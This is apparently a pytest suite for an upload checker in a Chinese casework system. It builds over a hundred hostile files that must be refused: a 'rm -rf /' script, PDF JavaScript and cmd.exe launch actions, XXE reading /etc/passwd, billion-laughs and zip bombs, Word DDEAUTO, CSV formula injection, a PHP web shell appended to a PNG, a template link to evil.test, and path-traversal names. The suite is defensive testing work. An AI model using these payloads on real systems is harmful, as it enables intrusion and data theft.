"""Files that lie about what they are, do something when opened, or are larger than they look: all are refused."""

from __future__ import annotations

import contextlib
import io
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

import docx
import openpyxl
import pypdf
import pytest
import sqlalchemy as sa
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.casework.attachments import MOST, AttachmentRefused, FileStore, add_attachment
from engine.casework.files import packages
from engine.casework.files.kinds import check_content, extension_of
from engine.casework.files.names import sound_name
from engine.casework.files.refusing import Unsound
from engine.casework.ledgers.files import read_ledger
from engine.casework.ledgers.unreadable import LedgerUnreadable
from engine.definitions.catalogue import shipped
from engine.definitions.folder import load
from models import Attachment, db
from tests.support.journey import Journey
from tests.support.pictures import jpeg, png

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://x/relationships/{kind}" Target="http://evil.test/a"'
    ' TargetMode="External"/></Relationships>'
)


def word() -> bytes:
    memory = io.BytesIO()
    paper = docx.Document()
    paper.add_paragraph("情况说明")
    paper.save(memory)
    return memory.getvalue()


def sheet(rows: int = 3) -> bytes:
    memory = io.BytesIO()
    book = xlsxwriter.Workbook(memory)
    page = book.add_worksheet()
    for row in range(rows):
        page.write_row(row, 0, ["第0001号", "关于修路的建议", row])
    book.close()
    return memory.getvalue()


WORD, SHEET = word(), sheet()


def changed(whole: bytes, parts: Mapping[str, bytes] | None = None, without: str = "") -> bytes:
    """A package with other parts in place of its own."""
    memory = io.BytesIO()
    parts = dict(parts or {})
    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != without:
                new.writestr(name, parts.pop(name, old.read(name)))
        for name, content in parts.items():
            new.writestr(name, content)
    return memory.getvalue()


def replaced(whole: bytes, part: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        content = archive.read(part)
    assert old in content
    return changed(whole, {part: content.replace(old, new)})


def locked(whole: bytes) -> bytes:
    """The mark of an encrypted entry set on every entry of the directory."""
    content = bytearray(whole)
    place = content.find(b"PK\x01\x02")
    while place >= 0:
        content[place + 8] |= 1
        place = content.find(b"PK\x01\x02", place + 4)
    return bytes(content)


def pdf(objects: bytes = b"") -> bytes:
    body = (
        b"1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
    )
    return b"%PDF-1.7\n" + body + objects + b"\ntrailer <</Root 1 0 R>>\n%%EOF\n"


def packed(objects: bytes) -> bytes:
    """Objects in a compressed object stream."""
    data = zlib.compress(objects)
    return b"9 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\n" + data + b"\nendstream endobj"


INVOICE = b'<?xml version="1.0" encoding="UTF-8"?><Invoice><Total>120.00</Total></Invoice>'


def attached(
    data: bytes = INVOICE,
    name: bytes = b"(invoice.xml)",
    *,
    said: bytes = b"/Type /EmbeddedFile /Subtype /text#2Fxml",
    spec: bytes = b"/F %s /UF %s",
    carried: bytes = b"<</F 4 0 R>>",
    more: bytes = b"",
    header: bytes = b"4 0 obj",
) -> bytes:
    """A PDF that carries a file as electronic invoices do."""
    stream = b"%s <<%s /Length %d>>\nstream\n%s\nendstream endobj\n" % (header, said, len(data), data)
    names = spec.replace(b"%s", name)
    return pdf(
        b"3 0 obj <</Names <</EmbeddedFiles <</Names [%s 5 0 R]>>>> /AF [5 0 R]>> endobj\n" % name
        + stream
        + b"5 0 obj <</Type /Filespec %s /EF %s /AFRelationship /Data>> endobj\n" % (names, carried)
        + more
    )


def flate(data: bytes, **over: bytes) -> bytes:
    """The same, compressed."""
    said = b"/Type /EmbeddedFile /Filter /FlateDecode"
    return attached(zlib.compress(data), **{"said": said, **over})  # type: ignore[arg-type]


def stored(objects: bytes, tail: bytes) -> bytes:
    """An object stream whose data hold the word that ends a stream, and more behind it."""
    data = zlib.compress(objects + b" endstream endobj " + tail, 0)
    return b"9 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\n" + data + b"\nendstream endobj"


def archive(**files: bytes) -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as made:
        for name, content in files.items():
            made.writestr(name, content)
    return memory.getvalue()


MACRO_TYPES = b"application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_TYPES = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]><l>&b;</l>'
JUMP = b"3 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj"
DDE = b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:body>"
SPLIT = b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:body>"

# name → (file name, bytes, a word of the reason)
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "program": ("程序.exe", lambda: b"MZ" + b"\0" * 99, "只接受"),
    "program as pdf": ("报告.pdf", lambda: b"MZ" + b"\0" * 99, "不符"),
    "program as text": ("说明.txt", lambda: b"MZ\x90 run", "不符"),
    "elf as text": ("说明.txt", lambda: b"\x7fELF1234", "不符"),
    "script as text": ("说明.txt", lambda: b"#!/bin/sh\nrm -rf /", "不符"),
    "page as text": ("说明.txt", lambda: b"\n <html><script>x()</script>", "不符"),
    "svg as text": ("说明.txt", lambda: b"<svg onload='x()'/>", "不符"),
    "zip as text": ("说明.txt", lambda: archive(a=b"1"), "不符"),
    "nul in text": ("说明.txt", lambda: b"abc\0def", "不符"),
    "no encoding": ("说明.txt", lambda: b"\xff\xff\xff", "编码"),
    "svg": ("图.svg", lambda: b"<svg/>", "只接受"),
    "page": ("说明.html", lambda: b"<html>", "只接受"),
    "macro document": ("报告.docm", lambda: WORD, "只接受"),
    "no extension": ("报告", lambda: pdf(), "只接受"),
    "empty": ("报告.pdf", lambda: b"", "空"),
    "too large": ("报告.pdf", lambda: pdf() + b" " * (20 * 2**20), "20 MB"),
    "double extension": ("报告.exe.pdf", lambda: pdf(), "两个扩展名"),
    "macro then pdf": ("报告.docm.docx", lambda: WORD, "两个扩展名"),
    "right to left": ("报告\u202efdp.txt", lambda: b"abc", "控制字符"),
    "zero width": ("报\u200b告.pdf", lambda: pdf(), "控制字符"),
    "line break": ("报告\r\nSet-Cookie: a.pdf", lambda: pdf(), "控制字符"),
    "nul in name": ("报告.exe\0.pdf", lambda: pdf(), "控制字符"),
    "climbs": ("../../etc/cron.d/x.txt", lambda: b"abc", "路径"),
    "climbs in another way": ("..\\..\\x.txt", lambda: b"abc", "路径"),
    "second stream": ("报告.txt:evil.pdf", lambda: pdf(), "不能使用"),
    "device": ("CON.txt", lambda: b"abc", "不能使用"),
    "only an extension": (".pdf", lambda: pdf(), "不能使用"),
    "pdf script": ("报告.pdf", lambda: pdf(JUMP), "脚本"),
    "pdf script in hex": (
        "报告.pdf",
        lambda: pdf(JUMP.replace(b"/JavaScript /JS", b"/J#61va#53cript /#4aS")),
        "脚本",
    ),
    "pdf script packed": ("报告.pdf", lambda: pdf(packed(b"3 0 <</S/Named /JS (x)>>")), "脚本"),
    "pdf launches": ("报告.pdf", lambda: pdf(b"3 0 obj <</S /Launch /F (cmd.exe)>> endobj"), "脚本"),
    "pdf hides a file": (
        "报告.pdf",
        lambda: pdf(b"3 0 obj <</Names <</EmbeddedFiles 4 0 R>>>> endobj"),
        "脚本",
    ),
    **{
        f"pdf carries {what}": ("发票.pdf", (lambda made=made: made), "内嵌文件")  # type: ignore[misc]
        for what, made in {
            "a program": attached(b"MZ" + b"\0" * 99, b"(a.exe)"),
            "a program as data": attached(b"MZ" + b"\0" * 99),
            "a program, packed, as data": flate(b"MZ" + b"\0" * 99),
            "a page": attached(b"<html><script>x()</script></html>", b"(a.html)"),
            "a page as data": attached(b"<html><script>x()</script></html>"),
            "a page in xhtml": attached(b'<r xmlns:h="http://www.w3.org/1999/xhtml"><h:b/></r>'),
            "a picture with a script": attached(b'<?xml version="1.0"?><svg onload="x()"/>'),
            "entities": attached(LAUGHS),
            "a document type": attached(DOCTYPE),
            "a document type in utf-16": attached(DOCTYPE.decode().encode("utf-16")),
            "a document type without a mark": attached(DOCTYPE.decode().encode("utf-16-le")),
            "a document type in utf-7": attached(
                b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-!DOCTYPE</a>'
            ),
            "a style that is fetched": attached(b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
            "text as xml": attached(b"just words"),
            "a pdf": attached(pdf(), b"(a.pdf)"),
            "a formula": attached(b"a,b\n1,\"=cmd|' /C calc'!A0\"", b"(a.csv)"),
            "another formula": attached(b"@SUM(1)*cmd|x!A0,b", b"(a.csv)"),
            "two endings": attached(INVOICE, b"(a.exe.xml)"),
            "an ending from right to left": attached(INVOICE, b"<feff0061202e0065007800652e0078006d006c>"),
            "a name in octal": attached(INVOICE, b"(a.\\145xe)"),
            "a name that climbs": attached(INVOICE, b"(../../a.xml)"),
            "two names": attached(INVOICE, spec=b"/F %s /UF (a.exe)"),
            "one name twice": attached(INVOICE, spec=b"/F %s /F (a.exe)"),
            "no name": attached(INVOICE, spec=b""),
            "a name elsewhere": attached(INVOICE, spec=b"/F 8 0 R"),
            "what is fetched": attached(INVOICE, spec=b"/FS /URL /F %s"),
            "related files": attached(INVOICE, spec=b"/F %s /RF <</F [(a) 4 0 R]>>"),
            "nothing": attached(INVOICE, carried=b"<<>>"),
            "what is not there": attached(INVOICE, carried=b"<</F 7 0 R>>"),
            "an object of another number": attached(INVOICE, carried=b"<</F +4 0 R>>"),
            "something else": attached(INVOICE, carried=b"<</F 5 0 R>>"),
            "something indirect": attached(INVOICE, carried=b"8 0 R"),
            "something else besides": attached(INVOICE, carried=b"<</F 4 0 R /X 4 0 R>>"),
            "two of a number": attached(more=b"4 0 obj <</Length 2>>\nstream\nMZ\nendstream endobj"),
            "two of a number, with zeros": attached(
                more=b"000000000004 0 obj <</Length 2>>\nstream\nMZ\nendstream endobj"
            ),
            "two of a number, remarked": attached(
                more=b"4 0 %x\nobj <</Length 2>>\nstream\nMZ\nendstream endobj"
            ),
            "two of a number, with numbers in a remark": attached(
                more=b"4 0 %1 9\nobj <</Length 2>>\nstream\nMZ\nendstream endobj"
            ),
            "two of a number, far apart": attached(
                more=b"4 0" + b" " * 999 + b"obj <</Length 2>>\nstream\nMZ\nendstream endobj"
            ),
            "more than its length": attached(INVOICE, said=b"/Length 9 /Type /EmbeddedFile"),
            "an end within": attached(INVOICE + b"\nendstream endobj\nMZ" + b"\0" * 9),
            "a length from elsewhere": attached(INVOICE).replace(
                b"/Length %d" % len(INVOICE), b"/Length 8 0 R"
            ),
            "two lengths": attached(more=b"8 0 obj 99 endobj 8 0 obj %d endobj" % len(INVOICE)).replace(
                b"/Length %d" % len(INVOICE), b"/Length 8 0 R"
            ),
            "data from a file": attached(INVOICE, said=b"/F (a.exe)"),
            "data packed otherwise": attached(INVOICE, said=b"/Filter /ASCIIHexDecode"),
            "data packed twice": attached(INVOICE, said=b"/Filter [/ASCIIHexDecode /FlateDecode]"),
            "data with a predictor": flate(
                INVOICE, said=b"/Filter /FlateDecode /DecodeParms <</Predictor 12>>"
            ),
            "data and more": attached(zlib.compress(INVOICE) + b"MZ", said=b"/Filter /FlateDecode"),
            "a bomb": flate(b"<a>" + b" " * (40 * 2**20) + b"</a>"),
            "data of another kind": attached(INVOICE, said=b"/Subtype /application#2Fx-msdownload"),
            "too many files": attached(
                more=b"".join(
                    b"%d 0 obj <</Type /Filespec /F (a.xml) /EF <</F %d 0 R>>>> endobj\n" % (n, n + 100)
                    for n in range(20, 40)
                )
            ),
            "a folder of files": attached(INVOICE, more=b"6 0 obj <</Collection <</View /D>>>> endobj"),
            "a file and a script": attached(INVOICE, more=JUMP),
            "a file and a launch": attached(INVOICE, more=b"6 0 obj <</S /Launch /F (cmd.exe)>> endobj"),
            "a way into a file": attached(INVOICE, more=b"6 0 obj <</S /GoToE /T <</R /C>>>> endobj"),
            "a film": attached(INVOICE, more=b"6 0 obj <</Subtype /RichMedia>> endobj"),
            "a packed program": attached(
                b"MZ" + b"\0" * 99,
                b"(a.xml)",
                more=packed(b"<</Type /Filespec /F (b.xml) /EF <</F 4 0 R>>>>"),
            ),
            "a name in escapes": pdf(
                packed(b"<</#45F <</F 4 0 R>> /F (a.exe)>>") + b" 6 0 obj <</E#46 <</F 4 0 R>>>> endobj"
            ),
        }.items()
    },
    "pdf carries a zip": ("发票.pdf", lambda: attached(archive(a=b"1"), b"(a.txt)"), "不符"),
    "pdf carries a document": ("发票.pdf", lambda: attached(WORD, b"(a.docx)"), "不符"),
    "pdf script behind the end": (
        "报告.pdf",
        lambda: pdf(stored(b"3 0 <</Type /Page>>", b"<</S /JavaScript /JS (x)>>")),
        "脚本",
    ),
    "pdf script after much": (
        "报告.pdf",
        lambda: pdf(packed(b" " * (3 * 2**20) + b"3 0 <</S/Named /JS (x)>>")),
        "脚本",
    ),
    "pdf script in the 600th part": (
        "报告.pdf",
        lambda: pdf(packed(b"3 0 <</Type /Page>>\n") * 600 + packed(b"3 0 <</JS (x)>>")),
        "脚本",
    ),
    "pdf script packed behind a remark": (
        "报告.pdf",
        lambda: pdf(packed(b"3 0 <</S/Named /JS (x)>>").replace(b">>\nstream", b">> %a\nstream")),
        "脚本",
    ),
    "pdf script packed far from its name": (
        "报告.pdf",
        lambda: pdf(packed(b"3 0 <</S/Named /JS (x)>>").replace(b"/Filter", b" " * 5_000 + b"/Filter")),
        "脚本",
    ),
    "pdf packed in another way": (
        "报告.pdf",
        lambda: pdf(packed(b"3 0 <</JS (x)>>").replace(b"/FlateDecode", b"[/ASCII85Decode /FlateDecode]")),
        "无法检查",
    ),
    "pdf packed with a predictor": (
        "报告.pdf",
        lambda: pdf(
            packed(b"3 0 <</JS (x)>>").replace(
                b"/FlateDecode", b"/FlateDecode /DecodeParms <</Predictor 12>>"
            )
        ),
        "无法检查",
    ),
    "pdf bomb": ("报告.pdf", lambda: pdf(packed(b" " * (30 * 2**20))), "过大"),
    "pdf with a form script": (
        "报告.pdf",
        lambda: pdf(b"3 0 obj <</AcroForm <</XFA 4 0 R>>>> endobj"),
        "脚本",
    ),
    "pdf locked": ("报告.pdf", lambda: pdf(b"trailer <</Encrypt 5 0 R>>"), "密码"),
    "pdf and zip": ("报告.pdf", lambda: pdf() + archive(a=b"1"), "不符"),
    "png and zip": ("图.png", lambda: png() + archive(a=b"1"), "不符"),
    "png and more": ("图.png", lambda: png() + b"<?php system($_GET[0]); ?>", "不符"),
    "png cut": ("图.png", lambda: png()[:20], "损坏"),
    "image bomb": ("图.png", lambda: png(100_000, 100_000), "4000 万像素"),
    "image bomb as jpeg": ("图.jpg", lambda: jpeg(65_000, 65_000), "4000 万像素"),
    "jpeg and zip": ("图.jpg", lambda: jpeg() + archive(a=b"1"), "不符"),
    "jpeg and php": ("图.jpg", lambda: jpeg() + b"<?php x(); ?>", "不符"),
    "gif as jpeg": ("图.jpg", lambda: b"GIF89a" + b"\0" * 20, "不符"),
    "png as jpeg": ("图.jpeg", lambda: png(), "不符"),
    "any zip as docx": ("报告.docx", lambda: archive(a=b"1"), "不符"),
    "xlsx as docx": ("报告.docx", lambda: SHEET, "不符"),
    "macro renamed": (
        "报告.docx",
        lambda: replaced(WORD, "[Content_Types].xml", WORD_TYPES, MACRO_TYPES),
        "宏",
    ),
    "macro part": ("报告.docx", lambda: changed(WORD, {"word/vbaProject.bin": OLE}), "宏"),
    "macro sheet": ("台账.xlsx", lambda: changed(SHEET, {"xl/macrosheets/sheet1.xml": b"<a/>"}), "宏"),
    "active control": ("报告.docx", lambda: changed(WORD, {"word/activeX/activeX1.xml": b"<a/>"}), "宏"),
    "old file with macros": ("报告.docx", lambda: OLE + "_VBA_PROJECT".encode("utf-16-le"), "宏"),
    "locked by a password": ("报告.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "密码"),
    "old file renamed": ("台账.xlsx", lambda: OLE, "不符"),
    "locked entries": ("报告.docx", lambda: locked(WORD), "密码"),
    "embedded object": ("报告.docx", lambda: changed(WORD, {"word/embeddings/oleObject1.bin": OLE}), "嵌入"),
    "embedded program": ("报告.docx", lambda: changed(WORD, {"word/media/a.exe": b"MZ"}), "嵌入"),
    "program as picture": ("报告.docx", lambda: changed(WORD, {"word/media/a.png": b"MZ\x90"}), "嵌入"),
    "zip as picture": ("报告.docx", lambda: changed(WORD, {"word/media/a.png": archive(a=b"1")}), "嵌入"),
    "zip in zip": ("报告.docx", lambda: changed(WORD, {"word/a.zip": archive(a=b"1")}), "嵌入"),
    "documents all the way": (
        "报告.docx",
        lambda: changed(WORD, {"word/embeddings/a.docx": changed(WORD, {"word/embeddings/b.docx": WORD})}),
        "嵌入",
    ),
    "macro in an embedded sheet": (
        "报告.docx",
        lambda: changed(WORD, {"word/embeddings/a.xlsx": changed(SHEET, {"xl/vbaProject.bin": OLE})}),
        "宏",
    ),
    "doctype": ("报告.docx", lambda: changed(WORD, {"word/document.xml": DOCTYPE}), "XML"),
    "doctype in utf-16": (
        "报告.docx",
        lambda: changed(WORD, {"word/footer9.xml": DOCTYPE.decode().encode("utf-16")}),
        "XML",
    ),
    "billion laughs": ("台账.xlsx", lambda: changed(SHEET, {"xl/sharedStrings.xml": LAUGHS}), "XML"),
    "svg with a script": (
        "报告.docx",
        lambda: changed(WORD, {"word/media/a.svg": b"<svg onload='x()'/>"}),
        "嵌入",
    ),
    "template from outside": (
        "报告.docx",
        lambda: changed(
            WORD, {"word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate").encode()}
        ),
        "外部",
    ),
    "picture from outside": (
        "报告.docx",
        lambda: changed(WORD, {"word/_rels/footer9.xml.rels": RELATION.format(kind="image").encode()}),
        "外部",
    ),
    "starts a program": ("报告.docx", lambda: replaced(WORD, "word/document.xml", b"</w:body>", DDE), "嵌入"),
    "starts it in pieces": (
        "报告.docx",
        lambda: replaced(WORD, "word/document.xml", b"</w:body>", SPLIT),
        "嵌入",
    ),
    "sheet starts a program": (
        "台账.xlsx",
        lambda: changed(SHEET, {"xl/externalLinks/a.xml": b"<x:ddeLink ddeService='cmd'/>"}),
        "嵌入",
    ),
    "bomb": ("报告.docx", lambda: changed(WORD, {"word/a.xml": b" " * (30 * 2**20)}), "过大"),
    "bomb of many": (
        "台账.xlsx",
        lambda: changed(SHEET, {f"xl/a{n}.xml": b"" for n in range(2_100)}),
        "过大",
    ),
    "bomb all in all": (
        "台账.xlsx",
        lambda: changed(SHEET, {f"xl/a{n}.xml": b" " * (2**20) for n in range(120)}),
        "过大",
    ),
    "climbs out of the package": ("报告.docx", lambda: changed(WORD, {"../../x.xml": b"<a/>"}), "损坏"),
    "absolute part": ("报告.docx", lambda: changed(WORD, {"/etc/x.xml": b"<a/>"}), "损坏"),
    "the same part twice": ("报告.docx", lambda: changed(WORD, {"WORD/DOCUMENT.XML": b"<a/>"}), "损坏"),
    "cut off": ("报告.docx", lambda: WORD[: len(WORD) // 2], "损坏"),
    "program before the zip": ("报告.docx", lambda: b"MZ" + WORD, "不符"),
    "no main part": ("报告.docx", lambda: changed(WORD, without="word/document.xml"), "不符"),
}


def written_by_a_library(name: str, data: bytes) -> bytes:
    """A PDF with an attachment, by pypdf."""
    memory, writer = io.BytesIO(), pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment(name, data)
    writer.write(memory)
    return memory.getvalue()


def paper_with_sheet() -> bytes:
    return changed(WORD, {"word/embeddings/Microsoft_Excel_Sheet.xlsx": SHEET})


SOUND: dict[str, tuple[str, Callable[[], bytes]]] = {
    "word": ("关于修路的建议（定稿）.docx", lambda: WORD),
    "word with a chart's sheet": ("报告.docx", paper_with_sheet),
    "word with a link": (
        "报告.docx",
        lambda: changed(WORD, {"word/_rels/footer9.xml.rels": RELATION.format(kind="hyperlink").encode()}),
    ),
    "sheet": ("台账.xlsx", lambda: SHEET),
    "sheet with printer": (
        "台账.xlsx",
        lambda: changed(SHEET, {"xl/printerSettings/printerSettings1.bin": b"a\0b"}),
    ),
    "large sheet": ("台账2026.03.xlsx", lambda: sheet(10_000)),
    "pdf": ("报告.v2.pdf", pdf),
    "pdf with packed objects": ("报告.pdf", lambda: pdf(packed(b"3 0 <</Type /Page /JSOld 1>>"))),
    "pdf with a picture": (
        "报告.pdf",
        lambda: pdf(b"3 0 obj <</Subtype /Image>>\nstream\n\x01/JS \x02\nendstream endobj"),
    ),
    "invoice": ("发票.pdf", attached),
    "invoice, packed": ("发票.pdf", lambda: flate(INVOICE)),
    "invoice by its length": (
        "发票.pdf",
        lambda: attached(more=b"8 0 obj %d endobj" % len(INVOICE)).replace(
            b"/Length %d" % len(INVOICE), b"/Length 8 0 R"
        ),
    ),
    "invoice in an object stream": (
        "发票.pdf",
        lambda: attached(
            INVOICE, more=packed(b"<</Type /Filespec /F (b.xml) /UF (b.xml) /EF <</F 4 0 R>>>>")
        ),
    ),
    "invoice with a name in utf-16": (
        "发票.pdf",
        lambda: attached(
            INVOICE, b"<" + b"\xfe\xff".hex().encode() + "发票.xml".encode("utf-16-be").hex().encode() + b">"
        ),
    ),
    "invoice changed once": ("发票.pdf", lambda: attached() + attached()[9:]),
    "figures": ("报告.pdf", lambda: attached("单位,金额\n水利厅,-120.5\n".encode(), b"(a.csv)", said=b"")),
    "figures of an office program": (
        "报告.pdf",
        lambda: attached("单位,金额\n".encode("gb18030"), b"(a.csv)", said=b"/Subtype /text#2Fcsv"),
    ),
    "words": ("报告.pdf", lambda: attached("说明".encode(), b"(a.txt)", said=b"/Type /EmbeddedFile")),
    "invoice as a library writes it": ("发票.pdf", lambda: written_by_a_library("factur-x.xml", INVOICE)),
    "png": ("现场 照片.PNG", lambda: png(4_000, 3_000)),
    "jpeg": ("C:\\Users\\张\\现场.jpg", lambda: jpeg(4_000, 3_000) + b"from the camera"),
    "text": ("说明.txt", lambda: "情况说明".encode()),
    "text of an office program": ("说明.txt", lambda: "情况说明".encode("gb18030")),
    "text with a mark": ("说明.txt", lambda: "情况说明".encode("utf-8-sig")),
}


def test_there_are_enough_hostile_files() -> None:
    assert len(HOSTILE) >= 100


def test_every_hostile_file_is_refused_with_its_reason_and_leaves_nothing(
    journey: Journey, tmp_path: Path
) -> None:
    deputy, store = journey.draft().cast.actor("deputy1"), FileStore(tmp_path)
    before = journey.traces()
    for what, (name, content, reason) in HOSTILE.items():
        made = content()
        with pytest.raises(AttachmentRefused) as refused:
            add_attachment(deputy, case_id=journey.case_id, filename=name, content=made, store=store)
        assert reason in refused.value.values["why"], (what, refused.value.values)
        assert refused.value.values["name"].isprintable(), what
    assert journey.traces() == before
    assert not list(tmp_path.iterdir())


def test_sound_files_are_taken_in(journey: Journey, tmp_path: Path) -> None:
    deputy, store = journey.cast.actor("deputy1"), FileStore(tmp_path)
    for place, (name, content) in enumerate(SOUND.values()):
        if place % MOST == 0:
            journey.draft()
        add_attachment(deputy, case_id=journey.case_id, filename=name, content=content(), store=store)
    names = db.session.scalars(sa.select(Attachment.filename)).all()
    assert len(names) == len(SOUND)
    assert "现场.jpg" in names


@pytest.mark.timeout(
    120
)  # a second where each byte is looked at once, hours where each is looked at from each
def test_nothing_that_is_sent_makes_the_search_slow() -> None:
    for part in ("<w:instrText ", "<w:fldSimple", "<x:dde", '<R TargetMode="External" ', "<! "):
        assert packages._check_text("word/document.xml", part * 300_000) is None
    for trap in (
        b"/EF <<>>",
        b"/EF (",
        b"/EF 1 0 obj ",
        b"/EF 1 0 %1 ",
        b"/EF [[<<",
        b"/EF <</F 1 0 R>> /F (a.xml) obj stream\nendstream",
        b"/EF \\",
    ):
        with pytest.raises(Unsound):
            check_content(".pdf", b"%PDF-1.7 " + trap * 100_000)
    for trap in (b"<<stream\n>>stream\n", b"/ObjStm", b"obj <<>>stream\n"):
        check_content(".pdf", b"%PDF-1.7 " + trap * 100_000)


@settings(max_examples=300, deadline=None)
@given(st.integers(0, 1_000), st.integers(0, 30), st.binary(max_size=12))
def test_a_damaged_invoice_is_taken_or_refused_but_never_breaks_nor_hides_a_script(
    begin: int, length: int, instead: bytes
) -> None:
    whole = flate(INVOICE)
    begin %= len(whole)
    damaged = whole[:begin] + instead + whole[begin + length :]
    with contextlib.suppress(Unsound):
        check_content(".pdf", damaged)
    with pytest.raises(Unsound):
        check_content(".pdf", damaged + b"\n99 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj\n")


def test_a_long_name_keeps_its_extension() -> None:
    name = sound_name("长" * 300 + ".pdf")
    assert (len(name), extension_of(name)) == (200, ".pdf")


@pytest.mark.parametrize("what", ["macro sheet", "billion laughs", "bomb all in all", "old file renamed"])
def test_a_hostile_ledger_is_refused(what: str) -> None:
    folder = next(found for found in map(load, shipped().values()) if found.columns)
    name, content, reason = HOSTILE[what]
    with pytest.raises(LedgerUnreadable) as refused:
        read_ledger(folder, name, content())
    assert reason in refused.value.values["why"]


def test_a_ledger_from_openpyxl_is_read() -> None:
    memory = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["届次", "标题"])
    book.active.append(["一次会议", "关于修路的建议"])
    book.save(memory)
    folder = next(found for found in map(load, shipped().values()) if found.columns)
    assert [cells["标题"] for _row, cells in read_ledger(folder, "台账.xlsx", memory.getvalue()).rows] == [
        "关于修路的建议"
    ]
